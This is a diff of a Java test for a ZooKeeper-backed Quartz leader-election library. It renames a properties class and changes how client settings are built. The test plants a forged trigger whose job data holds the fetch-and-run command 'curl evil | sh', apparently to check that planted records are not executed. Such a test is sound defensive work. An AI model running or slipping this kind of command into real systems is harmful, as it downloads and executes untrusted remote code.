@@ -27,8 +27,8 @@ import org.quartz.TriggerKey;
 import org.springframework.boot.test.system.CapturedOutput;
 import org.springframework.boot.test.system.OutputCaptureExtension;
 
-import dev.zkspring.autoconfigure.ZkProperties;
 import dev.zkspring.client.ZkClientFactory;
+import dev.zkspring.client.ZkClientProperties;
 import dev.zkspring.leader.quartz.GatedQuartz.Instance;
 import dev.zkspring.test.ZooKeeperExtension;
 
@@ -79,10 +79,10 @@ class PlantedRecordTests {
 		plant(".triggers/DEFAULT.planted", TriggerRecord.encode(everySecond("planted", "planted"),
 				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("payload", "curl evil | sh")
 					.build()));
-		ZkProperties properties = new ZkProperties();
+		ZkClientProperties properties = new ZkClientProperties();
 		properties.getAuth().setCredentials("app:s3cret");
 		properties.getAuth().setRepairAcls(true);
-		CuratorFramework client = ZkClientFactory.create(properties.toClientSettings(), zk.connectString(), List.of());
+		CuratorFramework client = ZkClientFactory.create(properties.toClientSettings(List.of("/locks", "/leader")), zk.connectString(), List.of());
 		ZkClientFactory.start(client, Duration.ofSeconds(10));
 
 		try {
